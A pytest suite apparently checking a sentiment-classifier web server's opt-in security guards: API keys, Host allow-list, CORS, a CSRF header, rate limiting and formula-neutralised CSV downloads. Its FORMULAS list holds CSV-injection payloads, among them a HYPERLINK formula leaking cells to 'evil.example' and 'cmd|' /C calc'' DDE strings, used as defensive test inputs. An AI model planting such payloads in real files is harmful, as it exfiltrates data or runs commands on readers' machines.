"""The server's opt-in guards (`sentilstm.serve.security`): API keys, the Host allow-list, CORS, the CSRF header,
the per-client rate limit and spreadsheet-safe CSV downloads.

Each is checked against a real uvicorn server on a loopback port with the requests an attacker would send:
no key or a wrong one, a forged Host header (DNS rebinding), a cross-origin page, a cross-site form post, a CSV
whose texts are spreadsheet formulas, a burst over the rate limit. The page asks for the key in headless Chromium.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pandas as pd
import pytest
from typer.testing import CliRunner

from helpers import TINY, make_negation_data, stop_server
from sentilstm import SentimentClassifier
from sentilstm.cli import app as cli_app
from sentilstm.errors import ConfigError
from sentilstm.serve import ServeSettings, build_app
from sentilstm.serve.security import (
    CSRF_HEADER,
    RateLimiter,
    client_key,
    host_allowed,
    neutralise_formulas,
    serve_allowed_hosts,
)
from test_pages import browser, screenshot, shown, wait_for  # noqa: F401 - `browser` is a fixture
from test_serve import LiveServer

FULL_KEY = "full-key-0123456789abcdef"
READ_KEY = "read-key-0123456789abcdef"
CSRF = {CSRF_HEADER: "1"}
BEARER = {"Authorization": f"Bearer {FULL_KEY}"}
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "not good at all",
]
SAFE = [*("'" + text for text in FORMULAS[:5]), "'\n=1+1", FORMULAS[6]]  # a lone \r would split the row: now \n


@pytest.fixture(scope="module")
def model_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    texts, labels = make_negation_data(400, seed=0)
    return SentimentClassifier(**TINY).fit(texts, labels).save(tmp_path_factory.mktemp("guarded") / "tiny.sentilstm")


def serving(model_path: Path, folder: Path, **options: Any) -> LiveServer:
    """The real app with `options` (ServeSettings fields), its database and page files in `folder`."""
    settings = ServeSettings(
        str(model_path), feedback_url=f"sqlite:///{folder / 'feedback.db'}", upload_dir=str(folder), **options
    )
    return LiveServer(build_app(settings))


@pytest.fixture(scope="module")
def keyed(model_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    with serving(model_path, tmp_path_factory.mktemp("keyed"), api_key=FULL_KEY, read_key=READ_KEY) as server:
        yield server


@pytest.fixture(scope="module")
def plain(model_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    """Defaults, as `sentilstm serve` runs them on 127.0.0.1: no key, the loopback Host names only."""
    with serving(
        model_path, tmp_path_factory.mktemp("plain"), allowed_hosts=serve_allowed_hosts("127.0.0.1", [])
    ) as server:
        yield server


def csv_file(texts: list[str], **columns: list[Any]) -> dict[str, Any]:
    frame = pd.DataFrame({"text": texts, **columns})
    body = frame.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC)  # quoted text keeps a leading "\r" a cell's own
    return {"file": ("reviews.csv", body.encode(), "text/csv")}


def stored_feedback(server: LiveServer) -> list[Any]:
    return httpx.get(f"{server.url}/feedback", headers=BEARER, timeout=30).json().get("items", [])


# ----- API keys -----------------------------------------------------------------------------------------------
def test_requests_without_a_key_are_401_and_health_stays_open(keyed: LiveServer) -> None:
    with httpx.Client(base_url=keyed.url, timeout=30) as client:
        assert client.get("/health").status_code == 200
        for method, path in (
            ("GET", "/model"),
            ("GET", "/trends"),
            ("GET", "/feedback"),
            ("POST", "/predict"),
            ("POST", "/explain"),
            ("POST", "/feedback"),
            ("GET", "/score/" + "a" * 32 + ".csv"),
        ):
            answer = client.request(method, path, json={"text": "good"})
            assert answer.status_code == 401, (path, answer.text)
            assert answer.headers["www-authenticate"].startswith("Bearer")
            assert "Authorization: Bearer" in answer.json()["detail"]
        # the page shell, its scripts and the API docs hold no data; the page asks for the key itself
        for path in ("/", "/static/app.js", "/docs", "/openapi.json"):
            assert client.get(path).status_code == 200, path


def test_a_wrong_key_is_401_and_never_echoed(keyed: LiveServer) -> None:
    with httpx.Client(base_url=keyed.url, timeout=30) as client:
        for headers in (
            {"Authorization": "Bearer not-the-key-at-all-123"},
            {"X-API-Key": FULL_KEY[:-1]},
            {"Authorization": f"Bearer {FULL_KEY.upper()}"},
        ):
            answer = client.post("/predict", json={"text": "good"}, headers=headers)
            assert answer.status_code == 401, headers
            assert answer.headers["www-authenticate"] == 'Bearer realm="sentilstm", error="invalid_token"'
            assert "not one this server accepts" in answer.json()["detail"]
            assert FULL_KEY[:-1] not in answer.text and "not-the-key" not in answer.text
        basic = client.post("/predict", json={"text": "good"}, headers={"Authorization": f"Basic {FULL_KEY}"})
        assert basic.status_code == 401 and basic.headers["www-authenticate"] == 'Bearer realm="sentilstm"'


def test_the_full_key_opens_everything(keyed: LiveServer) -> None:
    with httpx.Client(base_url=keyed.url, timeout=30, headers=BEARER) as client:
        assert client.post("/predict", json={"text": "good"}).status_code == 200
        assert client.post("/feedback", json={"text": "great", "source": "keyed"}).status_code == 200
        assert client.get("/model").status_code == 200
        scored = client.post("/score", files=csv_file(["good", "bad"]))  # a key header needs no CSRF header
        assert scored.status_code == 200, scored.text
        assert client.get(scored.json()["download"]).status_code == 200
        assert (
            client.post(
                "/predict", json={"text": "good"}, headers={"Authorization": "", "X-API-Key": FULL_KEY}
            ).status_code
            == 200
        )


def test_the_read_key_reads_but_cannot_write(keyed: LiveServer) -> None:
    with httpx.Client(base_url=keyed.url, timeout=30, headers={"Authorization": f"bearer {READ_KEY}"}) as client:
        assert client.post("/predict", json={"texts": ["good", "bad"]}).status_code == 200
        assert client.post("/explain", json={"text": "not good"}).status_code == 200
        for path in ("/model", "/trends", "/feedback"):
            assert client.get(path).status_code == 200, path
        before = len(stored_feedback(keyed))
        writes = [
            client.post("/feedback", json={"text": "sneaky"}),
            client.post("/score/columns", files=csv_file(["good"]), headers=CSRF),
            client.post("/score", files=csv_file(["good"]), headers=CSRF),
        ]
        for answer in writes:
            assert answer.status_code == 403, answer.text
            assert 'error="insufficient_scope"' in answer.headers["www-authenticate"]
            assert "read-only key" in answer.json()["detail"]
        assert len(stored_feedback(keyed)) == before


def test_model_shows_the_guards_but_never_the_keys(keyed: LiveServer) -> None:
    with httpx.Client(base_url=keyed.url, timeout=30, headers=BEARER) as client:
        info = client.get("/model")
        schema = client.get("/openapi.json").json()
    security = info.json()["security"]
    assert security["api_key"] is True and security["read_key"] is True
    assert security["allowed_hosts"] == ["*"] and security["cors_origins"] == [] and security["rate_limit"] is None
    assert security["csrf_header"] == CSRF_HEADER and security["raw_csv"] is False
    for text in (info.text, str(schema)):
        assert FULL_KEY not in text and READ_KEY not in text
    bearer = schema["components"]["securitySchemes"]["bearer"]
    assert (bearer["type"], bearer["scheme"]) == ("http", "bearer")
    assert schema["paths"]["/predict"]["post"]["security"] and "security" not in schema["paths"]["/health"]["get"]
    multipart = schema["paths"]["/score"]["post"]["parameters"]
    assert any(p["name"] == CSRF_HEADER and p["in"] == "header" and p["required"] for p in multipart)


def test_keys_are_checked_and_kept_out_of_reprs() -> None:
    settings = ServeSettings("m.sentilstm", api_key=FULL_KEY, read_key=READ_KEY)
    assert FULL_KEY not in repr(settings) and READ_KEY not in repr(settings)
    assert ServeSettings.from_env(settings.to_env()) == settings  # how they reach worker processes
    for options, message in (
        (dict(api_key="short"), "api_key has 5 characters; use at least 16"),
        (dict(api_key=FULL_KEY + " x"), "api_key may hold only printable ASCII"),
        (dict(api_key="é" * 20), "api_key may hold only printable ASCII"),
        (dict(read_key=READ_KEY), "read_key needs api_key"),
        (dict(api_key=FULL_KEY, read_key=FULL_KEY), "read_key must differ from api_key"),
    ):
        with pytest.raises(ConfigError, match=message) as error:
            ServeSettings("m.sentilstm", **options)
        given = options.get("api_key") or options.get("read_key")
        assert given not in str(error.value)


# ----- Host allow-list (DNS rebinding) ------------------------------------------------------------------------
def test_a_forged_host_header_is_400(plain: LiveServer) -> None:
    port = plain.url.rsplit(":", 1)[1]
    with httpx.Client(base_url=plain.url, timeout=30) as client:
        forged = client.get("/model", headers={"Host": f"evil.example:{port}"})
        assert forged.status_code == 400
        detail = forged.json()["detail"]
        assert "evil.example" in detail and "--allowed-host evil.example" in detail and "localhost" in detail
        assert client.post("/predict", json={"text": "good"}, headers={"Host": "attacker.test"}).status_code == 400
        for host in (f"localhost:{port}", f"127.0.0.1:{port}", f"[::1]:{port}", "LOCALHOST.", "localhost"):
            assert client.get("/model", headers={"Host": host}).status_code == 200, host
        assert client.get("/health", headers={"Host": "10.1.2.3:8000"}).status_code == 200  # probes use the pod IP


def test_allowed_hosts_follow_the_bind_address() -> None:
    loopback = ("localhost", "127.0.0.1", "::1")
    assert serve_allowed_hosts("127.0.0.1", []) == ("127.0.0.1", "localhost", "::1")
    assert serve_allowed_hosts("192.168.1.5", []) == ("192.168.1.5", *loopback)
    assert serve_allowed_hosts("0.0.0.0", []) == ()  # every interface: any name, unless --allowed-host says
    assert serve_allowed_hosts("0.0.0.0", ["Sentiment.Example.com"]) == ("sentiment.example.com", *loopback)
    assert serve_allowed_hosts("127.0.0.1", ["*"]) == ()
    assert host_allowed("api.example.com:443", ("*.example.com",)) and not host_allowed(
        "example.com.evil.test", ("*.example.com",)
    )
    assert host_allowed("[::1]:8000", loopback) and not host_allowed("", loopback) and host_allowed("x", ())
    for bad in ("http://example.com", "example.com:8000", "exa mple.com", "a/b"):
        with pytest.raises(ConfigError, match="allowed host"):
            ServeSettings("m", allowed_hosts=(bad,))


# ----- CORS -----------------------------------------------------------------------------------------------------
def test_cors_is_off_by_default(plain: LiveServer) -> None:
    with httpx.Client(base_url=plain.url, timeout=30) as client:
        simple = client.get("/model", headers={"Origin": "http://evil.example"})
        assert simple.status_code == 200 and "access-control-allow-origin" not in simple.headers
        preflight = client.options(
            "/predict",
            headers={
                "Origin": "http://evil.example",
                "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "content-type",
            },
        )
        assert "access-control-allow-origin" not in preflight.headers


def test_cors_origin_allows_only_that_origin(model_path: Path, tmp_path: Path) -> None:
    origin = "https://app.example.com"
    with (
        serving(model_path, tmp_path, api_key=FULL_KEY, cors_origins=(origin + "/",)) as server,
        httpx.Client(base_url=server.url, timeout=30) as client,
    ):
        preflight = client.options(
            "/predict",
            headers={
                "Origin": origin,
                "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "authorization,content-type",
            },
        )
        assert preflight.status_code == 200 and preflight.headers["access-control-allow-origin"] == origin
        assert "authorization" in preflight.headers["access-control-allow-headers"].lower()
        answer = client.post("/predict", json={"text": "good"}, headers={"Origin": origin, **BEARER})
        assert answer.status_code == 200 and answer.headers["access-control-allow-origin"] == origin
        refused = client.get("/model", headers={"Origin": origin})  # a 401 the page can read, to ask for the key
        assert refused.status_code == 401 and refused.headers["access-control-allow-origin"] == origin
        other = client.post("/predict", json={"text": "good"}, headers={"Origin": "https://evil.example", **BEARER})
        assert "access-control-allow-origin" not in other.headers
        bad = client.options(
            "/predict", headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}
        )
        assert bad.status_code == 400 and "access-control-allow-origin" not in bad.headers
    with pytest.raises(ConfigError, match="cors origin"):
        ServeSettings("m", cors_origins=("app.example.com",))


# ----- CSRF ----------------------------------------------------------------------------------------------------
def test_a_cross_site_form_post_is_refused(plain: LiveServer) -> None:
    """What a page on another site can send without a CORS preflight: a form (urlencoded, multipart, text/plain)."""
    folder = Path(plain.app.state.page_files.folder)
    with httpx.Client(base_url=plain.url, timeout=30) as client:
        before = len(stored_feedback(plain))
        attacks = [
            client.post("/score/columns", files=csv_file(["good"]), headers={"Origin": "http://evil.example"}),
            client.post("/score", files=csv_file(["good"])),
            client.post(
                "/feedback",
                content=b'{"text": "forged", "source": "evil"}',
                headers={"content-type": "text/plain", "Origin": "http://evil.example"},
            ),
            client.post("/feedback", content=b'{"text": "forged"}', headers={"content-type": ""}),
            client.post("/feedback", data={"text": "forged"}),
        ]
        for answer in attacks:
            assert answer.status_code == 403, answer.text
            assert CSRF_HEADER in answer.json()["detail"]
        assert len(stored_feedback(plain)) == before
        assert not list(folder.glob("*.upload*"))  # nothing was even written to disk
        assert client.post("/score/columns", files=csv_file(["good"]), headers=CSRF).status_code == 200
        assert client.post("/feedback", json={"text": "from a script"}).status_code == 200  # JSON needs no header


# ----- spreadsheet formulas in scored CSVs ----------------------------------------------------------------------
def test_scored_csv_neutralises_formulas(plain: LiveServer, model_path: Path, tmp_path: Path) -> None:
    upload = csv_file(
        FORMULAS, score=[-0.5, 1.5, 2, -3, 0.25, 1, -1], note=["=1+1", "-5", "+3.5e2", "-x", "@me", "", "ok"]
    )
    with httpx.Client(base_url=plain.url, timeout=60, headers=CSRF) as client:
        scored = client.post("/score", files=upload)
        assert scored.status_code == 200, scored.text
        download = client.get(scored.json()["download"])
    frame = pd.read_csv(io.StringIO(download.text), keep_default_na=False)
    assert frame["text"].tolist() == SAFE
    assert frame["score"].tolist() == [-0.5, 1.5, 2, -3, 0.25, 1, -1]  # numbers stay numbers
    assert frame["note"].tolist() == ["'=1+1", "-5", "+3.5e2", "'-x", "'@me", "", "ok"]  # number-like text too
    assert frame["prob_-1"].dtype.kind == "f" and set(frame["predicted_label"]) <= {-1, 1}
    with (
        serving(model_path, tmp_path, raw_csv=True) as raw,
        httpx.Client(base_url=raw.url, timeout=60, headers=CSRF) as client,
    ):
        link = client.post("/score", files=upload).json()["download"]
        kept = pd.read_csv(io.StringIO(client.get(link).text), keep_default_na=False)
        assert client.get("/model").json()["security"]["raw_csv"] is True
    assert kept["text"].tolist()[:5] == FORMULAS[:5]  # as uploaded (the lone \r splits its row: raw means raw)


def test_neutralise_formulas_touches_only_text_cells() -> None:
    frame = pd.DataFrame(
        {
            "=cmd": ["=1", None, 3, "+x", "ok\r=cmd()\r\nok"],
            "p": [-0.5, 0.1, 0.2, 0.3, -1e-3],
            "s": pd.array(["-1", "@a", pd.NA, "\uff1d1", "a"], dtype="string"),
        }
    )
    safe = neutralise_formulas(frame)
    assert list(safe.columns) == ["'=cmd", "p", "s"]
    assert (
        safe["'=cmd"].tolist()[::2] == ["'=1", 3, "ok\n=cmd()\nok"]
        and safe["'=cmd"][1] is None
        and safe["'=cmd"][3] == "'+x"
    )
    assert safe["p"].tolist() == frame["p"].tolist() and safe["p"].dtype == frame["p"].dtype
    assert safe["s"].tolist()[:2] == ["-1", "'@a"] and safe["s"][3] == "'\uff1d1"
    assert frame.columns[0] == "=cmd" and frame.iloc[0, 0] == "=1"  # the input is left as it was


# ----- rate limit ------------------------------------------------------------------------------------------------
def test_a_burst_over_the_rate_limit_is_429(model_path: Path, tmp_path: Path) -> None:
    with serving(model_path, tmp_path, rate_limit=3) as server, httpx.Client(base_url=server.url, timeout=30) as client:
        answers = [client.post("/predict", json={"text": "good"}) for _ in range(8)]
        assert [a.status_code for a in answers[:3]] == [200, 200, 200]  # a full bucket: one minute's worth
        limited = [a for a in answers[3:] if a.status_code == 429]
        assert limited, [a.status_code for a in answers]  # 5 more within 20 s each would need 100 s of refill
        assert int(limited[0].headers["retry-after"]) >= 1
        assert "--rate-limit" in limited[0].json()["detail"] and "3 a minute" in limited[0].json()["detail"]
        assert client.get("/health").status_code == 200  # probes are not counted
        assert client.get("/model").status_code == 429  # every route but /health shares the bucket


def test_token_bucket_refills_and_stays_bounded() -> None:
    now = [1000.0]
    limiter = RateLimiter(per_minute=6, clock=lambda: now[0], max_clients=3)
    assert [limiter.wait("a") for _ in range(6)] == [0.0] * 6
    assert limiter.wait("a") == pytest.approx(10.0)  # one token every 10 s
    assert limiter.wait("b") == 0.0  # clients are counted apart
    now[0] += 10
    assert limiter.wait("a") == 0.0 and limiter.wait("a") > 0
    for client in ("c", "d", "e"):
        limiter.wait(client)
    assert len(limiter) <= 3  # the least recently seen client is forgotten, so memory stays bounded
    with pytest.raises(ConfigError, match="rate_limit"):
        ServeSettings("m", rate_limit=0)


def test_clients_are_told_apart_by_address() -> None:
    assert client_key({"client": ("203.0.113.7", 5000)}) == "203.0.113.7"
    assert client_key({"client": ("::ffff:203.0.113.7", 5000)}) == "203.0.113.7"
    # one IPv6 customer gets a /64: counting each address apart would let it rotate past the limit
    assert client_key({"client": ("2001:db8:1:2:aaaa::1", 1)}) == client_key({"client": ("2001:db8:1:2:bbbb::9", 1)})
    assert client_key({"client": ("2001:db8:1:3::1", 1)}) != client_key({"client": ("2001:db8:1:2::1", 1)})
    assert client_key({"client": None}) == "unknown"


# ----- settings and the CLI ----------------------------------------------------------------------------------------
def test_guard_settings_travel_through_the_environment() -> None:
    settings = ServeSettings(
        "m.sentilstm",
        api_key=FULL_KEY,
        allowed_hosts=("api.example.com", "localhost"),
        cors_origins=("https://app.example.com",),
        rate_limit=120,
        raw_csv=True,
    )
    env = settings.to_env()
    assert (
        env["SENTILSTM_SERVE_ALLOWED_HOSTS"] == "api.example.com,localhost" and env["SENTILSTM_SERVE_RAW_CSV"] == "true"
    )
    assert ServeSettings.from_env(env) == settings
    assert ServeSettings.from_env({**env, "SENTILSTM_SERVE_RAW_CSV": "false"}).raw_csv is False
    with pytest.raises(ConfigError, match="SENTILSTM_SERVE_RAW_CSV='maybe' is not a valid bool"):
        ServeSettings.from_env({**env, "SENTILSTM_SERVE_RAW_CSV": "maybe"})


def test_cli_serve_documents_every_guard_and_fails_in_one_line(model_path: Path) -> None:
    runner = CliRunner()
    help_text = runner.invoke(cli_app, ["serve", "--help"], env={"COLUMNS": "200"}).stdout
    for option in (
        "--api-key",
        "--read-key",
        "--allowed-host",
        "--cors-origin",
        "--rate-limit",
        "--raw-csv",
        "SENTILSTM_API_KEY",
        "SENTILSTM_READ_KEY",
    ):
        assert option in help_text, option
    short = runner.invoke(cli_app, ["serve", str(model_path), "--quiet"], env={"SENTILSTM_API_KEY": "hunter2"})
    assert short.exit_code == 2 and short.stderr.strip().count("\n") == 0
    assert short.stderr.startswith("error: api_key has 7 characters") and "hunter2" not in short.stderr
    origin = runner.invoke(cli_app, ["serve", str(model_path), "--cors-origin", "evil.example"])
    assert origin.exit_code == 2 and "cors origin" in origin.stderr and origin.stderr.strip().count("\n") == 0


@pytest.mark.slow  # ~20 s: three processes each import torch and load the model
def test_cli_guards_reach_every_worker(model_path: Path, tmp_path: Path) -> None:
    """`sentilstm serve --workers 2` with the key from the environment: both workers ask for it and check Host."""
    from test_serve import _free_port

    port = _free_port()
    env = {**os.environ, "OMP_NUM_THREADS": "1", "SENTILSTM_API_KEY": FULL_KEY}
    command = [
        sys.executable,
        "-m",
        "sentilstm",
        "serve",
        str(model_path),
        "--port",
        str(port),
        "--workers",
        "2",
        "--feedback-db",
        f"sqlite:///{tmp_path / 'f.db'}",
        "--rate-limit",
        "1000",
    ]
    process = subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    pids: set[int] = set()
    try:
        deadline = time.monotonic() + 90
        while len(pids) < 2 and time.monotonic() < deadline and process.poll() is None:
            try:  # a fresh connection each time, so the kernel may hand it to either worker
                with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=5) as session:
                    pids.add(session.get("/health").json()["pid"])
                    assert session.get("/model").status_code == 401
                    assert session.get("/model", headers={**BEARER, "Host": "evil.example"}).status_code == 400
                    security = session.get("/model", headers=BEARER).json()["security"]
                    assert security["api_key"] is True and security["rate_limit"] == 1000
                    assert security["allowed_hosts"] == ["127.0.0.1", "localhost", "::1"]
            except httpx.TransportError:
                time.sleep(0.2)
    finally:
        output = stop_server(process)
    assert len(pids) == 2, output
    assert FULL_KEY not in output and "API key required" in output


# ----- the page asks for the key ------------------------------------------------------------------------------------
def test_browser_asks_for_the_key_once_and_uses_it_everywhere(browser: Any, keyed: LiveServer, tmp_path: Path) -> None:
    from selenium.webdriver.common.by import By

    downloads = tmp_path / "downloads"
    downloads.mkdir()
    browser.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(downloads)})
    browser.get(keyed.url)
    browser.execute_script("sessionStorage.clear()")
    browser.get(keyed.url)
    dialog = wait_for(browser, lambda d: shown(d, "key-dialog"))
    browser.find_element(By.ID, "key-cancel").click()  # "not now": the page says why it is empty, and can ask later
    wait_for(browser, lambda d: "needs an API key" in d.find_element(By.ID, "model-meta").text)
    browser.find_element(By.ID, "key-btn").click()
    wait_for(browser, lambda d: shown(d, "key-dialog"))
    key_input = browser.find_element(By.ID, "key-input")
    key_input.send_keys("wrong-key-0123456789")
    browser.find_element(By.ID, "key-submit").click()
    wait_for(browser, lambda d: "not accepted" in d.find_element(By.ID, "key-message").text)
    assert dialog.is_displayed()  # asked again, saying why
    screenshot(browser, "6-api-key")
    key_input.clear()
    key_input.send_keys(FULL_KEY)
    browser.find_element(By.ID, "key-submit").click()
    wait_for(browser, lambda d: d.find_element(By.ID, "model-labels").find_elements(By.CLASS_NAME, "badge"))
    assert not dialog.is_displayed()
    assert browser.execute_script("return sessionStorage.getItem('sentilstm-api-key')") == FULL_KEY

    browser.refresh()  # the same tab: no second question
    wait_for(browser, lambda d: d.find_element(By.ID, "model-labels").find_elements(By.CLASS_NAME, "badge"))
    assert not browser.find_element(By.ID, "key-dialog").is_displayed()
    box = browser.find_element(By.ID, "text-input")
    box.send_keys("the acting was not good")
    browser.find_element(By.ID, "analyse-btn").click()
    wait_for(browser, lambda d: d.find_elements(By.CSS_SELECTOR, "#highlighted .word.towards"))
    browser.find_element(By.ID, "feedback-btn").click()
    wait_for(browser, lambda d: "Saved" in d.find_element(By.ID, "feedback-status").text)

    table = tmp_path / "formulas.csv"
    pd.DataFrame({"review": FORMULAS}).to_csv(table, index=False, quoting=csv.QUOTE_NONNUMERIC)
    browser.find_element(By.ID, "file-input").send_keys(str(table))
    wait_for(browser, lambda d: d.find_element(By.ID, "score-form").is_displayed())
    browser.find_element(By.ID, "score-btn").click()
    link = wait_for(browser, lambda d: shown(d, "download-link"))
    link.click()  # a fetch with the key, saved from a blob
    wait_for(browser, lambda d: [p for p in downloads.iterdir() if p.suffix == ".csv"], timeout=30)
    saved = pd.read_csv(next(p for p in downloads.iterdir() if p.suffix == ".csv"), keep_default_na=False)
    assert saved["review"].tolist()[0] == "'" + FORMULAS[0] and len(saved) == len(FORMULAS)
    assert not browser.find_element(By.ID, "key-dialog").is_displayed()
